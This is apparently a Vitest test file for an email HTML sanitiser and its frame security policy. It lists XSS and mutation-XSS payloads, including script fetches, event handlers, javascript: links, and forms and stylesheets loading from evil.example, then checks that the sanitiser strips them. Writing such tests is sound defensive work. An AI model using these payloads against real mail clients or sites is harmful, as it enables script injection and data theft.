// @vitest-environment jsdom
import { expect, test } from "vitest";
import { framePolicy } from "./frame-document.ts";
import { safeMail } from "./safe-html.ts";

const shown = (html: string, pictures: Record<string, string> = {}) => {
  const mail = safeMail(html, (address) => pictures[address], false);
  return { ...mail, tree: new DOMParser().parseFromString(mail.document, "text/html") };
};

const attacks = [
  "<script>fetch('//evil.example')</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
  "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/><a href=pay>Pay</a>",
  "<link rel=stylesheet href=https://evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<a href='javascript:alert(1)'>a</a><a href=' jAvA\tscript:alert(1)'>b</a><a href='vbscript:x'>c</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<video poster=https://evil.example/p.png><source src=https://evil.example/v.mp4></video><audio src=//evil.example>",
  "<img srcset='https://evil.example/1.png 1x'><picture><source srcset=//evil.example/2.png><img></picture>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<body onload=alert(1) background=https://evil.example/b.png><p style='x' onclick=alert(1)>hello</p>",
  "<a href=https://school.example ping=https://evil.example/ping>x</a>",
  "<style>@import 'https://evil.example/x.css';</style><p>words</p>",
  '<style>p{color:red}<<@import x;//style><@import x;iframe src="https://evil.example/id"><<@import x;//iframe></style>',
  "<style><</**//style><script>alert(1)</script></style>",
  "<style>a{}\\3c /style><iframe src=//evil.example></style>",
  "<style><!--</style--><</style><link rel=stylesheet href=//evil.example></style>",
];

test.each(attacks)("nothing that runs, submits, embeds or moves on is left of %s", (html) => {
  const { tree } = shown(html);
  expect(
    tree.querySelectorAll(
      "script,iframe,object,embed,base,link,form,input,button,svg,math,video,audio,source,template,noscript",
    ),
  ).toHaveLength(0);
  expect([...tree.querySelectorAll("meta")].map((meta) => meta.httpEquiv)).not.toContain("refresh");
  const attributes = [...tree.querySelectorAll("*")].flatMap((element) => [...element.attributes]);
  expect(
    attributes.map(({ name }) => name).filter((name) => /^on|^srcset$|^ping$|^poster$/.test(name)),
  ).toEqual([]);
  const addresses = attributes
    .filter(({ name }) => name === "href" || name === "src")
    .map(({ value }) => value);
  expect(
    addresses.filter((address) => !/^(?:https?:|mailto:|tel:|cid:|data:image\/)/i.test(address)),
  ).toEqual([]);
});

test("the same attacks are there before: the checks above can fail", () => {
  const raw = new DOMParser().parseFromString(attacks.join(""), "text/html");
  expect(raw.querySelectorAll("script,iframe,form,svg,[onerror],[ping]").length).toBeGreaterThan(8);
});

test("the frame's own policy comes before everything that the sender wrote", () => {
  const { document } = shown("<style>p{color:red}</style><p>words</p>");
  expect(document.indexOf("Content-Security-Policy")).toBeGreaterThan(0);
  expect(document.indexOf("Content-Security-Policy")).toBeLessThan(document.indexOf("color:red"));
});

test("pictures from elsewhere keep only their words until the parent asks", () => {
  const html =
    '<img src="https://track.example/open.gif" alt="Our logo"><td background="//track.example/b.png">x</td>';
  const before = shown(html);
  expect(before.hasRemotePictures).toBe(true);
  expect(before.document).not.toContain("track.example");
  expect(before.tree.querySelector("img")?.alt).toBe("Our logo");

  const after = shown(html, { "https://track.example/open.gif": "https://shown.example/open.gif" });
  expect(after.tree.querySelector("img")?.getAttribute("src")).toBe("https://shown.example/open.gif");
  expect(after.document).not.toContain("track.example");
});

test("the frame loads no picture from elsewhere until the parent asks, and nothing else ever", () => {
  expect(framePolicy(false)).toContain("img-src data:;");
  expect(framePolicy(true)).toContain("img-src data: https:;");
  for (const remote of [false, true]) expect(framePolicy(remote)).toContain("default-src 'none'");
});

test("a picture in the mail itself is shown at once, and one that came with it when it is there", () => {
  const inside = shown('<img src="data:image/png;base64,iVBORw0KGgo=">');
  expect(inside).toMatchObject({ hasRemotePictures: false, hasOwnPictures: false });
  expect(inside.tree.querySelector("img")?.getAttribute("src")).toMatch(/^data:image\/png/);
  const part = shown('<img src="cid:crest">', { "cid:crest": "data:image/png;base64,AA" });
  expect(part).toMatchObject({ hasRemotePictures: false, hasOwnPictures: true });
  expect(part.tree.querySelector("img")?.getAttribute("src")).toBe("data:image/png;base64,AA");
});

test("links open outside, without telling where they were opened", () => {
  const link = shown('<a href="https://pay.example/trip" target="_self">Pay</a>').tree.querySelector("a");
  expect(link?.target).toBe("_blank");
  expect(link?.rel).toContain("noopener");
  expect(link?.rel).toContain("noreferrer");
});

test("the layout of a newsletter stays", () => {
  const { tree } = shown(
    '<html><head><style>.x{color:red}</style></head><body bgcolor="#fff"><table width="600"><tr><td style="padding:4px">Tuesday</td></tr></table></body></html>',
  );
  expect(tree.querySelector("td")?.textContent).toBe("Tuesday");
  expect(tree.querySelector("table")?.getAttribute("width")).toBe("600");
  expect(tree.querySelector("td")?.getAttribute("style")).toContain("padding");
  expect(tree.head.innerHTML).toContain(".x{color:red}");
  expect(tree.body.getAttribute("bgcolor")).toBe("#fff");
});
